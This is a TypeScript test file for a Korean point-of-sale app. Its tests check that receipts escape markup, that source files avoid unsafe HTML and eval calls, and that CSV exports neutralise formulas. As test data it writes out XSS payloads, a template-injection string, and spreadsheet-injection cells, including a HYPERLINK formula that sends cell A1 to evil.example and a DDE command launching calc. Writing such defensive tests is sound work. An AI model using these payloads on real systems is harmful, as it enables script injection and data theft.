import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import Papa from 'papaparse'
import { expect, it } from 'vitest'
import { readListFile } from '../../src-renderer/domains/customers/read-list-file.ts'
import { spreadsheetText } from '../../src-renderer/domains/customers/spreadsheet-text.ts'
import { Paper } from '../../src-renderer/domains/receipts/Paper.tsx'
import type { Receipt } from '../../src-shared/domains/receipts/model.ts'
import { epochMs } from '../../src-shared/kernel/business-date.ts'
import { krw } from '../../src-shared/kernel/krw.ts'
import { entriesBelow, root } from '../support/source-tree.ts'
import { show } from './show.tsx'

/** Names that are HTML, formulas or words for a program, where they come out again. */

const markup = [
  '<img src=x onerror="window.harmed=1">',
  '<script>window.harmed=1</script>',
  '"><svg onload=alert(1)>',
  '{{constructor.constructor("alert(1)")()}} $t(app.title)',
  '&lt;b&gt;',
]

const receiptOf = (name: string): Receipt => ({
  kind: 'sale',
  practice: false,
  shop: { name, owner: name, businessNumber: '', address: name, phone: '' },
  orderNo: '20261121-0001',
  atMs: epochMs(1_795_240_000_000),
  zone: 'Asia/Seoul',
  cashierName: name,
  customerName: name,
  lines: [
    {
      name,
      designerName: name,
      quantity: 1,
      unitPriceKrw: krw(1000),
      discountKrw: krw(100),
      discountReason: name,
      totalKrw: krw(900),
      taxFree: false,
    },
  ],
  subtotalKrw: krw(1000),
  discountKrw: krw(100),
  totalKrw: krw(900),
  taxFreeKrw: krw(0),
  supplyKrw: krw(819),
  vatKrw: krw(81),
  tenders: [
    {
      kind: 'terminal',
      amountKrw: krw(900),
      givenKrw: null,
      changeKrw: null,
      issuer: name,
      cardNumber: '',
      approvalNumber: name,
      approvedAtMs: null,
      installmentMonths: 0,
      state: 'done',
    },
  ],
  why: 'as_said',
  reason: name,
  footer: `${name}\n${name}`,
})

it.each(markup)('a receipt shows the name %s letter by letter and makes nothing of it', async (name) => {
  const { container } = await show(<Paper receipt={receiptOf(name)} width={80} />)
  // The bar code of the number is the program's own.
  expect(container.querySelectorAll('img, script, svg:not(.bars), b')).toHaveLength(0)
  const times = (container.textContent ?? '').split(name).length - 1
  expect(times).toBeGreaterThanOrEqual(8)
  expect('harmed' in window).toBe(false)
})

it('no part of the screen makes HTML or a program out of text', () => {
  const means =
    /dangerouslySetInnerHTML|\.(?:inner|outer)HTML|insertAdjacentHTML|document\.write|srcDoc|javascript:|\beval\(|new Function|\.html\s*=|\{ html:/
  const files = entriesBelow('src-renderer').filter(
    ({ kind, path }) => kind === 'file' && /\.tsx?$/.test(path),
  )
  expect(files.length).toBeGreaterThan(200)
  expect(files.filter(({ path }) => means.test(readFileSync(join(root, path), 'utf8')))).toEqual([])
})

const cells = [
  '=HYPERLINK("http://evil.example/?"&A1;"누르세요")',
  '+82 10-2846-1934',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '＝1+1',
  ' =1+1',
  '\t=1+1',
  'a",=1+1,"b',
  'a;=1+1',
  "'=1+1",
  '=1+1\r\n=2+2',
]

it('a file for a spreadsheet holds no cell that is worked out there, and reads back as it was', async () => {
  const text = await spreadsheetText([['이름', '메모'], ...cells.map((cell) => [cell, '둘째'])])
  const written = Papa.parse<string[]>(text).data.flat()
  expect(written).toHaveLength(2 * (cells.length + 1))
  expect(written.filter((cell) => /^[\s\uFEFF]*[=+\-@＝＋－＠\t\r]/.test(cell))).toEqual([])
  const read = await readListFile(new File([text], '다시.csv'))
  if (!read.ok) throw new Error(read.error.code)
  expect(read.value.lines.map(([name]) => name)).toEqual(cells.map((cell) => cell.replace('\r\n', '\n')))
})
